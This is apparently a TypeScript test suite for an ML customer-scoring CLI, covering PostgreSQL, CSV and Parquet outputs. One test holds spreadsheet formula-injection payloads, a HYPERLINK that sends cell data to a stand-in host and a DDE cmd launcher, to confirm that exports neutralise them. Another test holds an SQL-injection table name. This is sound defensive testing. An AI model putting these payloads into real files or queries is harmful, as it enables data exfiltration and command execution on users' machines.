// ml score's parts against the real stores: the binary COPY stream and the keyset pages read the
// same customers (hostile ids included) from a PostgreSQL registry, CSV round-trips those ids, an
// aborted PostgreSQL or Parquet run leaves the previous result untouched, and bad options are named.
import { afterAll, beforeAll, expect, test } from "bun:test";
import { spawn } from "node:child_process";
import { existsSync } from "node:fs";
import { mkdtemp, readdir, readFile, rm, stat, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { FileArtifactStore } from "@pp/shared/artifacts/file-artifact-store.ts";
import { ModelRegistry } from "@pp/shared/registry/model-registry.ts";
import { openTestDatabase, type TestDatabase } from "@pp/shared/testing/test-databases.ts";
import Papa from "papaparse";
import postgres from "postgres";
import { runCli } from "../cli.ts";
import { csvField } from "../data/csv-quote.ts";
import { FEATURE_COUNT } from "../features/feature-vector.ts";
import { ensureDemoModel } from "../pipelines/demo-model.ts";
import { runSimulate } from "../pipelines/simulate.ts";
import { BinaryCopyParser, type BinaryField } from "./binary-copy.ts";
import { type CustomerPage, copyPages, registryPages, shardOf } from "./customer-pages.ts";
import {
  parseHorizon,
  parseShard,
  runScore,
  staleLogNote,
  stretchedGbdtNote,
} from "./run-score.ts";
import { csvHeader, SCORE_COLUMNS } from "./score-columns.ts";
import {
  csvSink,
  parquetSink,
  partialPathFor,
  postgresSink,
  quotedTableName,
  type ScoredBatch,
} from "./score-sinks.ts";

let db: TestDatabase;
let dir: string;
let registry: ModelRegistry;
const HOSTILE = [
  "a,b",
  'quo"te',
  "new\nline",
  " lead",
  "trail ",
  "émoji 🎉",
  "1e308",
  "x".repeat(256),
];

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), "pp-score-"));
  db = await openTestDatabase("postgres");
  registry = new ModelRegistry(db.handle.db, new FileArtifactStore(join(dir, "artifacts")));
  const demo = await ensureDemoModel({ registry, modelName: "demo", customers: 600, seed: 5 });
  // A second version: the demo's artifacts, 600 stored customers plus hostile ids.
  const v1 = await registry.getVersion("demo", demo.version);
  if (!v1) throw new Error("no demo version");
  const artifacts = await Promise.all(
    v1.artifacts.map(async (a) => ({
      name: a.name,
      bytes: await registry.loadArtifact(v1, a.name),
    })),
  );
  const rows = await db.handle.db.query.customerFeatures.findMany({
    where: (t, { eq }) => eq(t.modelVersionId, v1.id),
  });
  const template = rows[0] as (typeof rows)[number];
  await registry.registerVersion("demo", {
    artifacts,
    params: {},
    metrics: {},
    dataWindow: { calibrationEnd: v1.calibrationEnd },
    timeUnit: "week",
    trainedAt: new Date(),
    customerFeatures: [
      ...rows.map((r) => ({ customerId: r.customerId, summary: r.summary, features: r.features })),
      ...HOSTILE.map((id) => ({
        customerId: id,
        summary: template.summary,
        features: template.features,
      })),
    ],
    promote: true,
  });
}, 180_000);

afterAll(async () => {
  await db?.cleanup();
  await rm(dir, { recursive: true, force: true });
});

async function collect(pages: AsyncIterable<CustomerPage>): Promise<Map<string, number[]>> {
  const out = new Map<string, number[]>();
  for await (const p of pages) {
    p.ids.forEach((id, i) => {
      const features = p.X
        ? Array.from(p.X.subarray(i * FEATURE_COUNT, (i + 1) * FEATURE_COUNT))
        : [];
      out.set(id, [p.x[i]!, p.tx[i]!, p.T[i]!, p.monetary[i]!, ...features]);
    });
  }
  return out;
}

test("binary COPY and keyset pages read the same customers, whole or by shard", async () => {
  const version = await registry.getProductionVersion("demo");
  const url = db.options.databaseUrl as string;
  const viaCopy = await collect(copyPages(url, version?.id as number, 97, null));
  const viaPages = await collect(registryPages(db.handle.db, version?.id as number, 89, null));
  expect(viaCopy.size).toBe(600 + HOSTILE.length);
  expect(viaCopy).toEqual(viaPages);
  for (const id of HOSTILE) expect(viaCopy.has(id)).toBe(true);
  let total = 0;
  for (let s = 0; s < 3; s++) {
    const shard = { index: s, count: 3 };
    const a = await collect(copyPages(url, version?.id as number, 50, shard));
    const b = await collect(registryPages(db.handle.db, version?.id as number, 50, shard));
    expect(a).toEqual(b);
    for (const id of a.keys()) expect(shardOf(id, 3)).toBe(s);
    total += a.size;
  }
  expect(total).toBe(viaCopy.size);
});

test("the COPY parser gives the same rows whatever the chunking", async () => {
  const sql = postgres(db.options.databaseUrl as string, { max: 1, onnotice: () => {} });
  try {
    const stream = await sql
      .unsafe(
        "copy (select customer_id, features from customer_features) to stdout (format binary)",
      )
      .readable();
    const chunks: Uint8Array[] = [];
    for await (const c of stream as AsyncIterable<Uint8Array>) chunks.push(new Uint8Array(c));
    const whole = Buffer.concat(chunks);
    const parse = (pieces: Uint8Array[]) => {
      const parser = new BinaryCopyParser();
      const ids: string[] = [];
      const fields: BinaryField[] = [];
      for (const piece of pieces) {
        parser.feed(piece);
        while (parser.next(fields)) ids.push(new TextDecoder().decode(fields[0] as Uint8Array));
      }
      return { ids, done: parser.done };
    };
    const one = parse([whole]);
    const bytes = parse(
      Array.from(whole.subarray(0, 20_000), (b) => Uint8Array.of(b)).concat([
        whole.subarray(20_000),
      ]),
    );
    expect(one.done).toBe(true);
    expect(bytes).toEqual(one);
    expect(parse([whole.subarray(0, whole.length - 2)]).done).toBe(false);
  } finally {
    await sql.end({ timeout: 5 });
  }
});

test("ml score to CSV from a PostgreSQL registry round-trips hostile ids", async () => {
  const out = join(dir, "scores.csv");
  const env = {
    DATABASE_URL: db.options.databaseUrl as string,
    ARTIFACT_STORE_URI: join(dir, "artifacts"),
  };
  const result = await runScore({
    model: "demo",
    horizon: "26w",
    discountRate: 0,
    out,
    env,
    print: () => {},
  });
  expect(result.rows).toBe(600 + HOSTILE.length);
  const parsed = Papa.parse<Record<string, string>>(await readFile(out, "utf8"), {
    header: true,
    skipEmptyLines: true,
  });
  expect(parsed.errors).toEqual([]);
  const ids = new Set(parsed.data.map((r) => r.customer_id));
  for (const id of HOSTILE) expect(ids.has(id)).toBe(true);
  expect(parsed.data.every((r) => Number(r.gbdt_expected_purchases) >= 0)).toBe(true);
});

/** A CSV score line of customer `id` whose numbers after `recommended` are all `value`. */
const line = (id: string, value: number) =>
  `demo,1,${id},1998-06-30,52w,52,week,0,bgnbd${`,${value}`.repeat(SCORE_COLUMNS.length - 9)}\n`;

/** A scored batch of `ids` whose every number is `value` (fake figures, real shapes). */
function scoredOf(ids: string[], value: number, errors: (string | null)[] = []): ScoredBatch {
  const n = ids.length;
  const filled = () => new Float64Array(n).fill(value);
  const model = () => ({
    expectedPurchases: filled(),
    pAlive: filled(),
    pPurchase: filled(),
    expectedSpend: filled(),
    clv: filled(),
  });
  return {
    run: {
      model: "demo",
      version: 1,
      asOf: "1998-06-30",
      horizon: "52w",
      horizonModelUnits: 52,
      timeUnit: "week",
      discountRate: 0,
      recommended: "gbdt",
    },
    batch: {
      n,
      ids,
      x: filled(),
      tx: filled(),
      T: filled(),
      monetary: filled(),
      featureRow: new Int32Array(n).fill(-1),
      storedRow: new Int32Array(n).fill(-1),
      X: new Float32Array(0),
      m: 0,
      errors: ids.map((_, i) => errors[i] ?? null) as ScoredBatch["batch"]["errors"],
    },
    result: {
      horizon: 52,
      bgnbd: model(),
      paretoNbd: model(),
      gbdt: { ...model(), predictedSpend: filled(), horizonShift: null },
      blend: null,
      meanSpend: filled(),
      timings: { btydMs: 0, gbdtMs: 0 },
    },
  };
}

async function parquetRows(file: string): Promise<Record<string, unknown>[]> {
  const { DuckDBInstance } = await import("@duckdb/node-api");
  const instance = await DuckDBInstance.create(":memory:");
  const connection = await instance.connect();
  try {
    const reader = await connection.runAndReadAll(
      `select * from read_parquet('${file.replaceAll("'", "''")}')`,
    );
    return reader.getRowObjectsJS() as Record<string, unknown>[];
  } finally {
    connection.closeSync();
    instance.closeSync();
  }
}

test("Parquet (typed columns through DuckDB) holds what the CSV holds, to the last bit", async () => {
  const env = {
    DATABASE_URL: db.options.databaseUrl as string,
    ARTIFACT_STORE_URI: join(dir, "artifacts"),
  };
  const common = { model: "demo", horizon: "26w", discountRate: 0.1, env, print: () => {} };
  const csvFile = join(dir, "same.csv");
  const parquetFile = join(dir, "same.parquet");
  await runScore({ ...common, out: csvFile, pageSize: 100 });
  await runScore({ ...common, out: parquetFile, pageSize: 100 });
  const csv = Papa.parse<Record<string, string>>(await readFile(csvFile, "utf8"), {
    header: true,
    skipEmptyLines: true,
  }).data;
  const parquet = await parquetRows(parquetFile);
  expect(parquet.length).toBe(csv.length);
  expect(csv.length).toBe(600 + HOSTILE.length);
  const byId = new Map(parquet.map((r) => [r.customer_id as string, r]));
  for (const row of csv) {
    const p = byId.get(row.customer_id as string) as Record<string, unknown>;
    for (const c of SCORE_COLUMNS) {
      const text = row[c.name] as string;
      const value = p[c.name];
      if (text === "") expect(value).toBeNull();
      else if (c.type === "double" || c.type === "integer") expect(value).toBe(Number(text));
      else if (c.type === "date") expect((value as Date).toISOString().slice(0, 10)).toBe(text);
      else expect(value).toBe(text);
    }
  }
  // Non-finite figures become NULL (as the CSV's empty fields); customers with an error are left out.
  const odd = join(dir, "odd.parquet");
  const sink = await parquetSink(odd);
  await sink.write(scoredOf(["ok", "bad"], Number.POSITIVE_INFINITY, [null, "invalid summary"]));
  await sink.write(scoredOf(["nan"], Number.NaN));
  await sink.close();
  const rows = (await parquetRows(odd)).sort((a, b) =>
    String(a.customer_id).localeCompare(String(b.customer_id)),
  );
  expect(rows.map((r) => [r.customer_id, r.bgnbd_clv, r.frequency, r.recommended])).toEqual([
    ["nan", null, null, "bgnbd"],
    ["ok", null, null, "gbdt"],
  ]);
  expect(rows[1]?.blend_clv).toBeNull();
  // A BTYD recommendation is one value for the run.
  const btyd = join(dir, "btyd.parquet");
  const constant = await parquetSink(btyd);
  const scored = scoredOf(["a", "b"], 2);
  await constant.write({ ...scored, run: { ...scored.run, recommended: "pareto_nbd" } });
  await constant.close();
  const constantRows = (await parquetRows(btyd)).map((r) => [
    r.customer_id,
    r.recommended,
    r.gbdt_clv,
  ]);
  expect(constantRows.sort()).toEqual([
    ["a", "pareto_nbd", 2],
    ["b", "pareto_nbd", 2],
  ]);
  // Sinks closing at the same moment into one directory (the shards of a run) each publish their
  // own file: their partial files never share a name.
  const shards = ["s0", "s1", "s2", "s3"].map((name) => join(dir, `${name}.parquet`));
  const shardSinks = await Promise.all(shards.map((path) => parquetSink(path)));
  await Promise.all(shardSinks.map((s, i) => s.write(scoredOf([`c${i}`, `d${i}`], i + 1))));
  await Promise.all(shardSinks.map((s) => s.close()));
  for (const [i, path] of shards.entries()) {
    expect((await parquetRows(path)).map((r) => r.customer_id).sort()).toEqual([`c${i}`, `d${i}`]);
  }
  // (That race is rare in one process; the names are what makes it impossible.)
  const names = [...shards, ...shards].map(partialPathFor);
  expect(new Set(names).size).toBe(names.length);
  expect(names.every((name, i) => dirname(name) === dirname(shards[i % 4] ?? ""))).toBe(true);
  // No customer at all: an empty file with the columns.
  const empty = join(dir, "empty.parquet");
  const none = await parquetSink(empty);
  await none.close();
  expect(await parquetRows(empty)).toEqual([]);
});

// Ids from a shop's log went into the CSV as written: `=HYPERLINK(…)` or `+1+cmd|' /C calc'!A0`
// ran as formulas when the file was opened in Excel or LibreOffice (security probe).
test("a scores CSV runs no formula: ids that begin like one get a leading ', counted; Parquet keeps them", async () => {
  const ids = [
    '=HYPERLINK("http://x.example/?"&C3,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "-7",
    "+44",
    "a-1",
  ];
  const out = join(dir, "formulas.csv");
  const sink = csvSink(out, SCORE_COLUMNS, true);
  await sink.write(scoredOf(ids, 1));
  await sink.close();
  const parsed = Papa.parse<Record<string, string>>(await readFile(out, "utf8"), {
    header: true,
    skipEmptyLines: true,
  });
  expect(parsed.data.map((r) => r.customer_id)).toEqual([
    '\'=HYPERLINK("http://x.example/?"&C3,"click")',
    "'+1+cmd|' /C calc'!A0",
    "'-2+3",
    "'@SUM(1)",
    "-7", // numbers are values, not formulas
    "+44",
    "a-1",
  ]);
  expect(sink.note?.()).toStartWith("note: 4 customer ids begin like a spreadsheet formula");
  const parquet = join(dir, "formulas.parquet");
  const typed = await parquetSink(parquet);
  await typed.write(scoredOf(ids, 1));
  await typed.close();
  expect((await parquetRows(parquet)).map((r) => r.customer_id)).toEqual(ids);
});

test("an aborted run leaves the previous table and file untouched", async () => {
  const url = db.options.databaseUrl as string;
  const first = await postgresSink(url, "kept_scores");
  await first.writeText(line("c1", 1));
  await first.close();
  const second = await postgresSink(url, "kept_scores");
  await second.writeText(line("c1", 2));
  await second.writeText(line("c2", 2));
  await second.abort();
  const sql = postgres(url, { max: 1, onnotice: () => {} });
  try {
    const rows = await sql`select customer_id, bgnbd_clv from kept_scores`;
    expect(rows.map((r) => ({ ...r }))).toEqual([{ customer_id: "c1", bgnbd_clv: 1 }]);
  } finally {
    await sql.end({ timeout: 5 });
  }
  const file = join(dir, "kept.parquet");
  await writeFile(file, "previous");
  const sink = await parquetSink(file);
  await sink.write(scoredOf(["c1"], 1));
  await sink.abort();
  expect(await readFile(file, "utf8")).toBe("previous");
  expect((await stat(file)).size).toBe(8);
});

// The CSV goes through the one atomic-write helper (shared/artifacts/atomic-file.ts): written to a
// `.tmp-<uuid>` beside the target (was `.partial`, unsynced), renamed over it at the close.
test("a CSV output is written as a .tmp- file beside it, the previous kept until the close; abort removes it", async () => {
  const sub = await mkdtemp(join(dir, "csv-atomic-"));
  const out = join(sub, "scores.csv");
  await writeFile(out, "previous");
  const sink = csvSink(out);
  await sink.writeText(line("c1", 1));
  const [tmp, ...others] = (await readdir(sub)).filter((f) => f !== "scores.csv");
  expect(others).toEqual([]);
  expect(tmp).toMatch(/^scores\.csv\.tmp-[0-9a-f-]{36}$/);
  expect(await readFile(out, "utf8")).toBe("previous");
  await sink.close();
  expect(await readdir(sub)).toEqual(["scores.csv"]);
  expect((await readFile(out, "utf8")).split("\n")[1]).toBe(line("c1", 1).trimEnd());
  const aborted = csvSink(out);
  await aborted.writeText(line("c2", 2));
  await aborted.abort();
  expect(await readdir(sub)).toEqual(["scores.csv"]);
  expect((await readFile(out, "utf8")).split("\n")[1]).toBe(line("c1", 1).trimEnd());
});

// `ml forget` says to score again; a run into a table upserted its rows and kept the erased
// customer's, with its old scored_at. A run of every stored customer (no --data, no --shard)
// replaces the version's rows; one of a part keeps the others'.
test("a whole run replaces its version's rows in the table: an erased customer's goes", async () => {
  const url = db.options.databaseUrl as string;
  const run = async (ids: string[], replaceVersion: boolean) => {
    const sink = await postgresSink(url, "rescored", SCORE_COLUMNS, { replaceVersion });
    for (const id of ids) await sink.writeText(line(id, 1));
    await sink.close();
  };
  await run(["c1", "c2", "c3"], true);
  await run(["c1", "c3"], false); // a shard or a log: c2 stays
  const sql = postgres(url, { max: 1, onnotice: () => {} });
  const stored = async () =>
    (await sql`select customer_id from rescored order by 1`).map((r) => r.customer_id);
  try {
    expect(await stored()).toEqual(["c1", "c2", "c3"]);
    await run(["c1", "c3"], true); // the version after c2 was forgotten
    expect(await stored()).toEqual(["c1", "c3"]);
  } finally {
    await sql.end({ timeout: 5 });
  }
});

test("rows the server refuses fail the run with its error, not a hang, and change nothing", async () => {
  const url = db.options.databaseUrl as string;
  const first = await postgresSink(url, "refused_scores");
  await first.writeText(line("c1", 1));
  await first.close();
  const second = await postgresSink(url, "refused_scores");
  await second.writeText(line("c1", 2));
  await second.writeText("demo,1,c2,1998-06-30,52w,52,week,0,bgnbd,1\n"); // too few fields
  await expect(second.close()).rejects.toThrow(/missing data for column/);
  await second.abort(); // what runScore does after a failed close: a no-op here
  const sql = postgres(url, { max: 1, onnotice: () => {} });
  try {
    const rows = await sql`select customer_id, bgnbd_clv from refused_scores`;
    expect(rows.map((r) => ({ ...r }))).toEqual([{ customer_id: "c1", bgnbd_clv: 1 }]);
    const [open] = await sql`select count(*)::int as n from pg_stat_activity
      where datname = current_database() and state like 'idle in transaction%'`;
    expect(open?.n).toBe(0);
  } finally {
    await sql.end({ timeout: 5 });
  }
}, 30_000);

test("bad options are refused with the option named", async () => {
  expect(parseHorizon("52w")).toEqual({ value: 52, unit: "week" });
  expect(parseHorizon("365 days")).toEqual({ value: 365, unit: "day" });
  for (const bad of ["52", "0w", "-3d", "1e308w", "2000d", "52m"]) {
    expect(() => parseHorizon(bad)).toThrow(/--horizon/);
  }
  expect(parseShard("1/4")).toEqual({ index: 1, count: 4 });
  for (const bad of ["4/4", "1/0", "a/b", "-1/2", "1"])
    expect(() => parseShard(bad)).toThrow(/--shard/);
  expect(() => quotedTableName("scores; drop table x")).toThrow(/--table/);
  expect(quotedTableName("crm.scores")).toBe('"crm"."scores"');
  expect(csvField('a"b')).toBe('"a""b"');
  expect(csvHeader().split(",")).toContain("gbdt_clv");
  const env = {
    DATABASE_URL: db.options.databaseUrl as string,
    ARTIFACT_STORE_URI: join(dir, "artifacts"),
  };
  const common = { model: "demo", horizon: "52w", discountRate: 0, env, print: () => {} };
  await expect(runScore({ ...common, out: join(dir, "x.json") })).rejects.toThrow(/--out/);
  await expect(runScore({ ...common, version: 99, out: join(dir, "x.csv") })).rejects.toThrow(
    /--version/,
  );
  await expect(runScore({ ...common, model: "nope", out: join(dir, "x.csv") })).rejects.toThrow(
    /--model/,
  );
  await expect(runScore({ ...common, to: "mysql://x", table: "t" })).rejects.toThrow(/--to/);
});

test("a --discount-rate of 1 or more (100% a year) is said: 10 meant as 10% discounts CLV to 39%", async () => {
  const env = {
    DATABASE_URL: db.options.databaseUrl as string,
    ARTIFACT_STORE_URI: join(dir, "artifacts"),
  };
  const notes = async (discountRate: number) => {
    const lines: string[] = [];
    const out = join(dir, `rate-${discountRate}.csv`);
    await runScore({
      model: "demo",
      horizon: "52w",
      discountRate,
      env,
      out,
      print: (l) => lines.push(l),
    });
    return lines.filter((l) => l.includes("--discount-rate"));
  };
  const [percent] = await notes(10);
  expect(percent).toContain("--discount-rate 10 is 1,000% a year");
  expect(percent).toContain("0.1 is 10%");
  expect(await notes(0.1)).toEqual([]);
});

test("kill -9 in the middle of a run leaves the previous table rows and file as they were", async () => {
  const url = db.options.databaseUrl as string;
  const env = { ...process.env, DATABASE_URL: url, ARTIFACT_STORE_URI: join(dir, "artifacts") };
  const common = { model: "demo", horizon: "52w", discountRate: 0, print: () => {} };
  const before = await runScore({ ...common, env, to: url, table: "killed_scores" });
  const out = join(dir, "killed.csv");
  await runScore({ ...common, env, out });
  const previousFile = await readFile(out, "utf8");
  const log = join(dir, "big.csv");
  await runSimulate({ model: "bgnbd", customers: 150_000, seed: 9, out: log });
  const cliPath = join(import.meta.dirname, "..", "cli.ts");
  for (const destination of [
    ["--to", url, "--table", "killed_scores"],
    ["--out", out],
  ]) {
    const child = spawn(
      process.execPath,
      [cliPath, "score", "--model", "demo", "--data", log, ...destination],
      {
        env,
        stdio: ["ignore", "ignore", "pipe"],
      },
    );
    const started = await new Promise<boolean>((done) => {
      const timer = setTimeout(() => done(false), 60_000);
      child.stderr.on("data", (chunk: Buffer) => {
        if (/scored [\d,]+\//.test(chunk.toString())) {
          clearTimeout(timer);
          done(true);
        }
      });
      child.on("exit", () => done(false));
    });
    expect(started).toBe(true); // killed while scoring, not before or after
    child.kill("SIGKILL");
    await new Promise((r) => child.once("exit", r));
  }
  const sql = postgres(url, { max: 1, onnotice: () => {} });
  try {
    const [row] = await sql`select count(*)::int as n from killed_scores`;
    expect(row?.n).toBe(before.rows);
  } finally {
    await sql.end({ timeout: 5 });
  }
  expect(await readFile(out, "utf8")).toBe(previousFile);
}, 180_000);

/** Runs the `ml` CLI in this process against the test registry; its exit code and stderr. */
async function cli(argv: string[]): Promise<{ code: number; stderr: string }> {
  const saved = { ...process.env };
  const write = process.stderr.write.bind(process.stderr);
  let stderr = "";
  process.env.DATABASE_URL = db.options.databaseUrl as string;
  process.env.ARTIFACT_STORE_URI = join(dir, "artifacts");
  const consoleError = console.error;
  process.stderr.write = ((chunk: string | Uint8Array) => {
    stderr += chunk.toString();
    return true;
  }) as typeof process.stderr.write;
  console.error = (...parts: unknown[]) => {
    stderr += `${parts.join(" ")}\n`;
  };
  try {
    return { code: await runCli(argv), stderr };
  } finally {
    process.stderr.write = write;
    console.error = consoleError;
    for (const key of ["DATABASE_URL", "ARTIFACT_STORE_URI"]) {
      if (saved[key] === undefined) delete process.env[key];
      else process.env[key] = saved[key];
    }
  }
}

test("ml score --data reads a log as train does: CSV, Parquet and US timestamps give the same rows", async () => {
  const log = join(dir, "log.csv");
  await runSimulate({ model: "bgnbd", customers: 400, seed: 11, out: log });
  const parquet = join(dir, "log.parquet");
  const { DuckDBInstance } = await import("@duckdb/node-api");
  const instance = await DuckDBInstance.create(":memory:");
  const connection = await instance.connect();
  await connection.run(
    `COPY (SELECT customer_id::VARCHAR AS customer_id, date::DATE AS date, amount::DOUBLE AS amount FROM read_csv('${log}', all_varchar = true)) TO '${parquet}' (FORMAT parquet)`,
  );
  connection.closeSync();
  instance.closeSync();
  // The same purchases as a US shop exports them: other names, month/day/year and a time of day.
  const us = join(dir, "log-us.csv");
  const lines = (await readFile(log, "utf8")).trim().split("\n").slice(1);
  await writeFile(
    us,
    `Customer,Invoice Date,Total\n${lines
      .map((l, i) => {
        const [id, date, amount] = l.split(",") as [string, string, string];
        const [y, m, d] = date.split("-");
        return `${id},${m}/${d}/${y} ${String(8 + (i % 10)).padStart(2, "0")}:${String(i % 60).padStart(2, "0")},${amount}`;
      })
      .join("\n")}\n`,
  );
  const asOf = "1998-03-31";
  const common = ["score", "--model", "demo", "--as-of", asOf, "--horizon", "26w"];
  const outputs: string[] = [];
  for (const [name, data, extra] of [
    ["csv", log, []],
    ["parquet", parquet, []],
    [
      "us",
      us,
      ["--customer-col", "Customer", "--date-col", "Invoice Date", "--amount-col", "Total"],
    ],
  ] as const) {
    const out = join(dir, `from-${name}.csv`);
    const run = await cli([...common, "--data", data, ...extra, "--out", out]);
    expect(run.stderr).toContain(`as of ${asOf}`);
    expect(run.code).toBe(0);
    outputs.push(await readFile(out, "utf8"));
  }
  const rows = Papa.parse<Record<string, string>>(outputs[0] as string, {
    header: true,
    skipEmptyLines: true,
  }).data;
  const buyers = new Set(
    lines.filter((l) => (l.split(",")[1] as string) <= asOf).map((l) => l.split(",")[0]),
  );
  expect(rows.length).toBe(buyers.size);
  expect(rows.every((r) => r.as_of === asOf && Number(r.bgnbd_p_alive) > 0)).toBe(true);
  expect(outputs[1]).toBe(outputs[0]);
  expect(outputs[2]).toBe(outputs[0]);
  // --as-of well past the log's last purchase: said (every customer scored as lapsed since).
  const late = await cli([
    ...["score", "--model", "demo", "--as-of", "1999-06-30", "--horizon", "26w"],
    ...["--data", log, "--out", join(dir, "late.csv")],
  ]);
  expect(late.code).toBe(0);
  expect(late.stderr).toMatch(
    /note: the log's last purchase is \S+, \d+ days before --as-of 1999-06-30/,
  );
  // --table names --to's table; reading --data postgres://… beside --to needs --query.
  const url = db.options.databaseUrl as string;
  const clash = await cli([...common, "--data", url, "--to", url, "--table", "t"]);
  expect(clash.code).toBe(2);
  expect(clash.stderr).toContain("--query");
  const lone = await cli([...common, "--data", log, "--table", "t", "--out", join(dir, "x.csv")]);
  expect(lone.code).toBe(2);
  expect(lone.stderr).toContain("--table");
}, 120_000);

// An event log has no amounts: scored against a version trained with them, every customer's spend
// read as 0 and Gamma-Gamma gave each the population's mean (475 for a customer of 42 purchases),
// and the GBDT scored features whose spend was 0, with nothing said.
test("a log without amounts, scored with a version trained with them: spend, CLV and GBDT left empty, said", async () => {
  const log = join(dir, "no-amounts.csv");
  await runSimulate({ model: "bgnbd", customers: 300, seed: 13, out: log });
  const common = ["score", "--model", "demo", "--as-of", "1998-03-31", "--horizon", "26w"];
  const withAmounts = await cli([...common, "--data", log, "--out", join(dir, "amounts.csv")]);
  expect(withAmounts.code).toBe(0);
  expect(withAmounts.stderr).not.toContain("the log has no amounts");
  const out = join(dir, "no-amounts-scores.csv");
  const run = await cli([...common, "--data", log, "--amount-col", "none", "--out", out]);
  expect(run.code).toBe(0);
  expect(run.stderr).toContain("note: the log has no amounts (--amount-col none)");
  const parse = async (path: string) =>
    Papa.parse<Record<string, string>>(await readFile(path, "utf8"), {
      header: true,
      skipEmptyLines: true,
    }).data;
  const rows = await parse(out);
  const full = await parse(join(dir, "amounts.csv"));
  expect(rows.length).toBe(full.length);
  expect(Object.keys(rows[0] ?? {})).toContain("gbdt_expected_purchases");
  expect(full[0]?.gbdt_expected_purchases).not.toBe("");
  for (const [i, row] of rows.entries()) {
    for (const [column, value] of Object.entries(row)) {
      if (/expected_spend|clv|^gbdt_|^blend_/.test(column)) expect(value).toBe("");
    }
    expect(row.bgnbd_expected_purchases).toBe(full[i]?.bgnbd_expected_purchases as string);
    expect(row.pareto_nbd_expected_purchases).toBe(
      full[i]?.pareto_nbd_expected_purchases as string,
    );
  }
  expect(Number(full[0]?.bgnbd_expected_spend)).toBeGreaterThan(0);
}, 120_000);

// A nightly job scoring a fresh export heard only the skipped rows: split ids, mixed currencies
// and refunded orders were scored silently (5,716 customers for 2,951 on an export half of whose
// ids a spreadsheet had zero-padded). Score prints train's account of the data.
test("ml score --data prints the data's account and warnings as train does", async () => {
  const log = join(dir, "warned.csv");
  await writeFile(
    log,
    [
      "customer_id,date,amount,currency,status",
      "00012,1998-01-02,10,USD,paid",
      "12,1998-02-03,12,EUR,paid",
      "00034,1998-01-05,8,USD,refunded",
      "34,1998-03-01,9,GBP,paid",
      "56,1998-01-07,5,USD,paid",
      "56,1998-02-07,6,USD,paid",
    ].join("\n"),
  );
  const out = join(dir, "warned-scores.csv");
  const run = await cli([
    ...["score", "--model", "demo", "--as-of", "1998-03-31", "--horizon", "26w"],
    ...["--data", log, "--out", out],
  ]);
  expect(run.code).toBe(0);
  const warnings = run.stderr.split("\n").filter((l) => l.includes("WARNING"));
  expect(run.stderr).toContain("data: 6 rows read, 6 kept; 5 customers, 6 purchase days");
  expect(warnings.join("\n")).toContain("differ from another only in leading zeros");
  expect(warnings.join("\n")).toContain('column "currency" holds 3 currencies');
  expect(warnings.join("\n")).toContain('column "status" holds refunded (1 row)');
}, 120_000);

// Train refuses an --as-of before anybody's first purchase; score wrote an empty file and exited
// 0 ("wrote 0 rows"), so a nightly job with a mistyped year shipped no scores without a word.
test("ml score --data with --as-of before the log's first purchase is refused, naming that date", async () => {
  const log = join(dir, "early.csv");
  await writeFile(
    log,
    "customer_id,date,amount\na,1998-01-02,10\na,1998-02-03,12\nb,1998-01-05,8\n",
  );
  const out = join(dir, "early-scores.csv");
  const run = await cli([
    "score",
    "--model",
    "demo",
    "--as-of",
    "1997-06-30",
    "--data",
    log,
    "--out",
    out,
  ]);
  expect(run.code).toBe(2);
  expect(run.stderr).toContain(
    "error: --as-of 1997-06-30: no customer of the log purchased by then (its first purchase is 1998-01-02)",
  );
  expect(existsSync(out)).toBe(false);
}, 120_000);

test("a note when --as-of is over a week past the log's last purchase, none within it", () => {
  expect(staleLogNote("2011-12-09", "2012-06-30")).toContain(
    "the log's last purchase is 2011-12-09, 204 days before --as-of 2012-06-30",
  );
  // Grouped as the account's other counts are (it read "10380 days" for an --as-of 28 years on).
  expect(staleLogNote("1998-06-30", "2026-11-30")).toContain(
    "10,380 days before --as-of 2026-11-30",
  );
  expect(staleLogNote("2011-12-09", "2011-12-16")).toBeNull();
  expect(staleLogNote("2011-12-09", "2011-12-01")).toBeNull();
});

test("a note when the horizon is over ten times the GBDT's trained one, none within it", () => {
  // A 1-day holdout (1/7 week) scored 39 weeks ahead: 273 times its window.
  expect(stretchedGbdtNote({ trainedHorizon: 1 / 7, timeUnit: "week" }, 39)).toContain(
    "trained for 0.143 weeks (the holdout's length) and are carried 273× further",
  );
  expect(stretchedGbdtNote({ trainedHorizon: 4, timeUnit: "week" }, 39)).toBeNull();
  expect(stretchedGbdtNote({ trainedHorizon: 39, timeUnit: "week" }, 13)).toBeNull();
});
